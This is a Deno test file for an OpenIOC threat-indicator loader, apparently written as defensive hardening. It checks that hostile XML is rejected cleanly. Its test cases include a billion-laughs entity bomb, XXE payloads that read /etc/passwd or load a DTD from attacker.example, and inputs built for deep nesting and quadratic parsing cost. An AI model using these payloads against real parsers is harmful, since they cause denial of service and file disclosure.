/**
 * Hostile input for the OpenIOC loader: each case must end in a clear
 * rejection (an IocLoadError naming the file and, where there is one, the
 * place), never an exception, a hang or unbounded memory.
 */
import { fail, ok, strictEqual } from "node:assert/strict";
import { join } from "node:path";
import { ioc10, ioc11, item10, item11, ns11, utf8 } from "../openioc/_ioc_fixtures.ts";
import { IocLoadError, loadIocPaths, parseIoc, type ParseIocOptions } from "../openioc/mod.ts";

function rejected(bytes: Uint8Array, options?: ParseIocOptions): IocLoadError {
  try {
    parseIoc(bytes, "hostile.ioc", options);
  } catch (error) {
    ok(error instanceof IocLoadError, `expected IocLoadError, got ${error}`);
    strictEqual(error.file, "hostile.ioc");
    return error;
  }
  fail("hostile input was loaded");
}

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<OpenIOC xmlns="${ns11}" id="x"><criteria><Indicator operator="OR" id="t">
<IndicatorItem id="a" condition="is" negate="false" preserve-case="false">
<Context document="FileItem" search="FileItem/FileName" type="mir"/><Content type="string">&lol9;</Content>
</IndicatorItem></Indicator></criteria></OpenIOC>`;

Deno.test("parseIoc rejects the billion laughs before expanding anything", () => {
  const error = rejected(utf8(billionLaughs));
  ok(error.reason.includes("DOCTYPE declarations are not accepted"), error.reason);
  strictEqual(error.line, 2);
  strictEqual(error.column, 1);
  // The same attack after a licence comment, or in lower case, is caught too.
  ok(rejected(utf8(billionLaughs.replace("?>\n", "?>\n<!-- c -->\n"))).reason.includes("DOCTYPE"));
  ok(rejected(utf8(billionLaughs.replace("DOCTYPE", "doctype"))).reason.includes("DOCTYPE"));
});

Deno.test("parseIoc rejects external entities and never touches the file system", () => {
  const system =
    `<?xml version="1.0"?>\n<!DOCTYPE ioc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n` +
    ioc10(
      `<Indicator operator="OR" id="t">${
        item10("a", "is", "FileItem/FileName", "&xxe;")
      }</Indicator>`,
    )
      .replace(/^<\?xml[^>]*>\n/, "");
  ok(rejected(utf8(system)).reason.includes("DOCTYPE"));
  const externalSubset = `<!DOCTYPE ioc SYSTEM "http://attacker.example/evil.dtd">\n<ioc/>`;
  ok(rejected(utf8(externalSubset)).reason.includes("DOCTYPE"));
  // A reference to an entity nobody declared is not well-formed.
  const dangling = ioc10(
    `<Indicator operator="OR" id="t">${
      item10("a", "is", "FileItem/FileName", "&xxe;")
    }</Indicator>`,
  );
  const error = rejected(utf8(dangling));
  ok(error.reason.includes("undefined entity &xxe;"), error.reason);
  strictEqual(error.line, 6);
  // A DOCTYPE smuggled inside an element.
  ok(rejected(utf8(`<ioc xmlns="x"><!DOCTYPE a></ioc>`)).reason.includes("DOCTYPE"));
});

Deno.test("parseIoc rejects 10,000-deep nesting with the place where the limit was crossed", () => {
  const depth = 10_000;
  const nested = '<Indicator operator="AND" id="n">'.repeat(depth) + "</Indicator>".repeat(depth);
  const error = rejected(utf8(ioc11(nested)));
  ok(error.reason.includes("nested deeper than 256 levels"), error.reason);
  strictEqual(error.line, 5);
  // Plain elements, no IOC structure at all.
  ok(rejected(utf8("<a>".repeat(depth))).reason.includes("nested deeper"));
});

Deno.test("parseIoc with the depth limit lifted still ends in a result or an IocLoadError", () => {
  const depth = 10_000;
  const nested = '<Indicator operator="AND" id="n">'.repeat(depth) +
    item11("leaf", "is", "FileItem/FileName", "x") + "</Indicator>".repeat(depth);
  try {
    const { document } = parseIoc(utf8(ioc11(nested)), "deep.ioc", { maxDepth: 20_000 });
    strictEqual(document.version, "1.1");
  } catch (error) {
    ok(error instanceof IocLoadError, `expected IocLoadError, got ${error}`);
  }
});

Deno.test("loadIocPaths rejects a 50 MB file by its size, unread; parseIoc bounds it by the limit", async () => {
  const folder = await Deno.makeTempDir({ prefix: "iocscan-hostile-" });
  const big = join(folder, "big.ioc");
  try {
    const size = 50 * 1024 * 1024;
    const chunk = utf8(item10("a", "is", "FileItem/FileName", "x".repeat(1000)));
    const file = await Deno.open(big, { write: true, create: true });
    await file.write(
      utf8(
        `<ioc xmlns="http://schemas.mandiant.com/2010/ioc" id="big"><definition><Indicator operator="OR" id="t">`,
      ),
    );
    for (let written = 0; written < size; written += chunk.length) await file.write(chunk);
    file.close();
    const set = await loadIocPaths([folder]);
    strictEqual(set.documents.length, 0);
    strictEqual(set.rejected.length, 1);
    ok(
      set.rejected[0]!.error.includes(`over the ${3 * 1024 * 1024}-byte limit`),
      set.rejected[0]!.error,
    );

    // Given the bytes directly, the limit applies before any decoding or parsing.
    const bytes = await Deno.readFile(big);
    ok(rejected(bytes).reason.includes("over the"));
    // With the limit raised, the truncated 50 MB document is parsed in one linear pass and rejected.
    const error = rejected(bytes, { maxFileBytes: 64 * 1024 * 1024 });
    ok(error.reason.includes("is not closed"), error.reason);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

Deno.test("parseIoc rejects a tag with 200,000 attributes in linear time", () => {
  const attributes = Array.from({ length: 200_000 }, (_, i) => ` a${i}="1"`).join("");
  const error = rejected(utf8(`<ioc${attributes} a5="2"/>`), { maxFileBytes: 64 * 1024 * 1024 });
  ok(error.reason.includes("duplicate attribute a5"), error.reason);
});

Deno.test("parseIoc rejects binary garbage clearly", () => {
  let seed = 0x2545f491;
  const random = () => {
    seed ^= seed << 13;
    seed ^= seed >>> 17;
    seed ^= seed << 5;
    return seed >>> 0;
  };
  for (let round = 0; round < 200; round++) {
    const bytes = new Uint8Array(1 + (random() % 4096));
    for (let i = 0; i < bytes.length; i++) bytes[i] = random() & 0xff;
    if (round % 4 === 0) bytes[0] = 0x3c; // starts like markup
    if (round % 8 === 1) bytes.set([0xef, 0xbb, 0xbf]); // a BOM, then garbage
    const error = rejected(bytes);
    ok(error.reason.length > 0);
  }
  ok(rejected(new Uint8Array(0)).reason.includes("no root element"));
  ok(
    rejected(new Uint8Array([0x3c, 0x61, 0x3e, 0x00, 0x3c, 0x2f, 0x61, 0x3e])).reason.includes(
      "U+0000",
    ),
  );
  ok(
    rejected(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01])).reason.includes(
      "not well-formed XML",
    ),
  );
});

Deno.test("parseIoc rejects every truncation of a valid file with a clear reason", () => {
  const text = utf8(ioc11(
    `<Indicator operator="OR" id="t">${item11("a", "is", "FileItem/FileName", "x &amp; y")}` +
      `<Indicator operator="AND" id="s">${
        item11("b", "contains", "FileItem/FullPath", "C:\\")
      }</Indicator></Indicator>`,
    {
      parameters: `<param id="p" ref-id="a" name="comment"><value type="string">c</value></param>`,
    },
  ));
  const complete = text.length - 1; // the final newline is optional
  for (let length = 0; length < complete; length++) {
    const error = rejected(text.subarray(0, length));
    ok(
      error.reason.length > 0 && (length === 0 || error.line !== undefined),
      `cut at ${length}: ${error.message}`,
    );
  }
  strictEqual(parseIoc(text.subarray(0, complete), "whole.ioc").document.id, "ioc-11");
});

// The worst cases below sit at the default 3 MB limit. Each is a structure whose cost used to
// grow with the square of its size (minutes to hours at 3 MB); each must now simply finish.
// Nothing is timed: a quadratic regression shows as a test that does not end.
const threeMb = 3 * 1024 * 1024;

Deno.test("parseIoc resolves 3 MB of entity references, CRLFs between them, in one pass", () => {
  const references = "&amp;\r\n".repeat(Math.floor((threeMb - 2000) / 7));
  const xml = ioc10(
    `<Indicator operator="OR" id="t">${
      item10("a", "contains", "FileItem/FileName", references)
    }</Indicator>`,
  );
  ok(xml.length <= threeMb && xml.length > threeMb - 4000, String(xml.length));
  const { document } = parseIoc(utf8(xml), "refs.ioc");
  const item = document.root.children[0]!;
  ok(item.kind === "item");
  strictEqual(item.content.value, "&\n".repeat(Math.floor((threeMb - 2000) / 7)));
  // The failing reference after them still gets its exact place, CRLFs counted.
  const bad = ioc10(
    `<Indicator operator="OR" id="t">${
      item10("a", "contains", "FileItem/FileName", `${"&amp;\r\n".repeat(1000)}  &bogus;`)
    }</Indicator>`,
  );
  const error = rejected(utf8(bad));
  ok(error.reason.includes("undefined entity &bogus;"), error.reason);
  const lineOfBad = bad.slice(0, bad.indexOf("&bogus;")).split(/\r\n|\n/).length;
  strictEqual(error.line, lineOfBad);
  strictEqual(error.column, 3);
});

Deno.test("parseIoc reads a 3 MB XML declaration of pseudo-attributes and trailing spaces", () => {
  const declaration = `<?xml version="1.0"${' a=""'.repeat(300_000)}${" ".repeat(1_400_000)}?>`;
  const xml = declaration + ioc10(`<Indicator operator="OR" id="t"/>`).replace(/^<\?xml.*\n/, "");
  ok(xml.length <= threeMb, String(xml.length));
  strictEqual(parseIoc(utf8(xml), "declaration.ioc").document.id, "ioc-10");
});

Deno.test("parseIoc reads 3 MB of <parameters> blocks, each appended once", () => {
  const block = `<parameters><param ref-id="x" name="n">v</param></parameters>`;
  const blocks = Math.floor((threeMb - 2000) / block.length);
  const parameters = block.repeat(blocks);
  const xml = ioc11(`<Indicator operator="OR" id="t"/>`).replace(
    "</OpenIOC>",
    `${parameters}</OpenIOC>`,
  );
  ok(xml.length <= threeMb, String(xml.length));
  strictEqual(parseIoc(utf8(xml), "params.ioc").document.parameters.length, blocks);
});

Deno.test("parseIoc rejects an id over the length limit, which every child id would repeat", () => {
  // A 1.5 MB IOC id and 48,000 items without ids once made 48,000 synthesised ids of 1.5 MB.
  const items = `<IndicatorItem condition="is"/>`.repeat(48_000);
  const long = ioc10(`<Indicator operator="OR">${items}</Indicator>`, {
    id: "i".repeat(1_500_000),
  });
  ok(long.length <= threeMb, String(long.length));
  const error = rejected(utf8(long));
  ok(
    error.reason.includes("IOC id is 1500000 characters long, over the 256-character"),
    error.reason,
  );
  strictEqual(error.line, 2);
  const node = rejected(utf8(ioc10(`<Indicator operator="OR" id="${"n".repeat(300)}"/>`)));
  ok(node.reason.includes("Indicator id is 300 characters long"), node.reason);
  // At the limit, the same shape loads.
  const atLimit = ioc10(`<Indicator operator="OR">${items}</Indicator>`, { id: "i".repeat(256) });
  const loaded = parseIoc(utf8(atLimit), "ids.ioc");
  strictEqual(loaded.document.root.children.length, 48_000);
});
